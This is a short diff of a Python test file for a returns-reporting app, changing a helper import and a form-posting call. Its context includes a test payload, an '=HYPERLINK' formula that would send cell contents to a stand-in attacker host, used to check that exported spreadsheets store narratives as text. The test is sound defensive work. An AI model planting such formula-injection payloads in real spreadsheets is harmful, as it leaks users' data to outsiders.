@@ -17,7 +17,7 @@ from openpyxl import load_workbook
 from app.extensions import db
 from app.periods import Quarter
 from tests.conftest import LEAD_GSS, post_form
-from tests.returns.conftest import good_figures
+from tests.returns.conftest import good_figures, post_and_confirm
 
 DANGEROUS = {
     "narrative": '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
@@ -149,7 +149,7 @@ def test_the_quarterly_report_writes_narratives_providers_and_risks_as_text(sign
     version = db.session.scalar(
         db.text("SELECT version FROM monthly_return WHERE month = :month"), {"month": MONTH}
     )
-    post_form(
+    post_and_confirm(
         lead,
         f"/returns/{LEAD_GSS}/{MONTH}",
         good_figures(
